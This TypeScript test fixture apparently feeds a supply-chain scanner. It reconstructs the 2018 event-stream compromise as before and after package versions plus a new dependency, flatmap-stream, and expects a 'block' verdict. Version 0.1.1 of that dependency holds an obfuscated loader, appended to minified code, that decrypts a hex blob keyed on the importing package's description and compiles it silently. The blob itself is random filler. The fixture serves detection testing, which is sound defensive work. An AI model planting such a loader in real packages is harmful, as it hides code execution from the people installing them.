import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '3.3.5',
  publishedAt: '2018-09-05T09:14:27.000Z',
  publisher: { name: 'right9', email: 'right9@mail.example.invalid' },
  manifest: {
    main: 'index.js',
    license: 'MIT',
    description: 'construct pipes of streams of events',
    dependencies: { through: '^2.3.8', split: '^1.0.1' },
  },
  files: {
    'index.js': `//filter will reemit the data if cb(err,pass) pass is truthy

var Stream = require('stream').Stream
  , es = exports
  , through = require('through')
  , split = require('split')

es.Stream = Stream
es.through = through
es.split = split

// merge several readable streams into one
es.merge = function (/*streams...*/) {
  var streams = [].slice.call(arguments)
  if (streams.length === 1 && Array.isArray(streams[0])) streams = streams[0]
  var out = new Stream()
  var open = streams.length
  out.readable = out.writable = true
  streams.forEach(function (s) {
    s.pipe(out, {end: false})
    s.on('end', function () {
      if (--open === 0) out.emit('end')
    })
    s.on('error', function (err) { out.emit('error', err) })
  })
  out.write = function (data) { out.emit('data', data); return true }
  out.destroy = function () {
    streams.forEach(function (s) { if (s.destroy) s.destroy() })
  }
  return out
}

es.mapSync = function (sync) {
  return through(function write (data) {
    var mapped
    try { mapped = sync(data) } catch (err) { return this.emit('error', err) }
    if (mapped !== undefined) this.emit('data', mapped)
  })
}

es.writeArray = function (done) {
  var items = []
  var s = through(function (d) { items.push(d) }, function () { done(null, items) })
  s.destroy = function () { s.writable = s.readable = false; done(new Error('destroyed before end'), items) }
  return s
}

es.readArray = function (array) {
  var stream = new Stream(), i = 0, paused = false
  stream.readable = true
  stream.resume = function () {
    paused = false
    while (i < array.length && !paused) stream.emit('data', array[i++])
    if (i >= array.length && stream.readable) { stream.readable = false; stream.emit('end') }
  }
  stream.pause = function () { paused = true }
  process.nextTick(stream.resume)
  return stream
}
`,
    'readme.markdown': `# EventStream

Streams are node's best and misunderstood idea, and EventStream is a toolkit to make creating and working with streams easy.
`,
    'examples/pretty.js': `var es = require('../')

process.stdin
  .pipe(es.split())
  .pipe(es.mapSync(function (line) { return line.trim() + '\\n' }))
  .pipe(process.stdout)
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'event-stream-2018',
  story: 'September to November 2018: a new maintainer adds a dependency whose minified file decrypts a second stage with the description of the importing package as the key.',
  name: 'event-stream',
  before,
  after: {
    version: '3.3.6',
    publishedAt: '2018-09-09T09:14:27.000Z',
    publisher: { name: 'right9', email: 'right9@mail.example.invalid' },
    manifest: {
      main: 'index.js',
      license: 'MIT',
      description: 'construct pipes of streams of events',
      dependencies: { through: '^2.3.8', split: '^1.0.1', 'flatmap-stream': '^0.1.0' },
    },
    files: {
      'examples/pretty.js': before.files['examples/pretty.js'],
      'readme.markdown': before.files['readme.markdown'],
      'index.js': before.files['index.js']
        .replace(`  , split = require('split')`, () => `  , split = require('split')
  , flatmap = require('flatmap-stream')`)
        .replace(`es.split = split`, () => `es.split = split
es.flatmap = flatmap`),
    },
  },
  brings: [
    {
      name: 'flatmap-stream',
      versions: [
        {
          version: '0.1.0',
          publishedAt: '2018-08-05T09:14:27.000Z',
          publisher: { name: 'hugeglass', email: 'hugeglass@mail.example.invalid' },
          manifest: { main: 'index.js', license: 'MIT', description: 'map each chunk to many' },
          files: {
            'index.js': `var Stream = require('stream').Stream
module.exports = function (mapper, opts) {
  var stream = new Stream()
  stream.writable = stream.readable = true
  stream.write = function (data) {
    mapper(data, function (err, list) { (list || []).forEach(function (x) { stream.emit('data', x) }) })
    return true
  }
  stream.end = function (d) { if (d !== undefined) stream.write(d); stream.emit('end') }
  return stream
}
`,
          },
        },
        {
          version: '0.1.1',
          publishedAt: '2018-10-05T09:14:27.000Z',
          publisher: { name: 'hugeglass', email: 'hugeglass@mail.example.invalid' },
          manifest: { main: 'index.min.js', license: 'MIT', description: 'map each chunk to many' },
          files: {
            'index.js': `var Stream = require('stream').Stream
module.exports = function (mapper, opts) {
  var stream = new Stream()
  stream.writable = stream.readable = true
  stream.write = function (data) {
    mapper(data, function (err, list) { (list || []).forEach(function (x) { stream.emit('data', x) }) })
    return true
  }
  stream.end = function (d) { if (d !== undefined) stream.write(d); stream.emit('end') }
  return stream
}
`,
            'index.min.js': `var Stream=require("stream").Stream;module.exports=function(e,n){var i=new Stream;i.writable=i.readable=!0;i.write=function(t){e(t,function(r,o){(o||[]).forEach(function(u){i.emit("data",u)})});return!0};i.end=function(t){void 0!==t&&i.write(t),i.emit("end")};return i};!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();
`,
            'test/data.js': `module.exports = ["${noise(8832, 311, '0123456789abcdef')}","${noise(2944, 907, '0123456789abcdef')}","63727970746f","656e76","6e706d5f7061636b6167655f6465736372697074696f6e","616573323536","6372656174654465636970686572","5f636f6d70696c65","686578","75746638"];
`,
          },
        },
      ],
    },
  ],
  must: 'block',
};
